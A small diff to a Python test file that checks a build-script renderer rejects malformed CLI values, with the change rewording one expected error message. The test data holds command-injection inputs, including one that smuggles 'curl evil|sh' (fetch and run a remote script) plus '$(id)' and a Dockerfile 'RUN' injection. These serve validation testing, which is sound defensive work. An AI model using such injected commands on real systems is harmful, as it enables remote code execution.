@@ -179,7 +179,7 @@ def test_render_writes_every_file_and_an_executable_script(tmp_path: Path) -> No
     [
         (["--remote-cache", "grpc://cache:1; curl evil|sh"], "is not a plain URL"),
         (["--cache-volume", "$(id)"], "is not a Docker volume name"),
-        (["--python", "3.11\nRUN x"], "is not a Python version"),
+        (["--python", "3.11\nRUN x"], "names no Python"),
         (["--cuda-capabilities", "sm_90;id"], "not a compute capability"),
     ],
 )
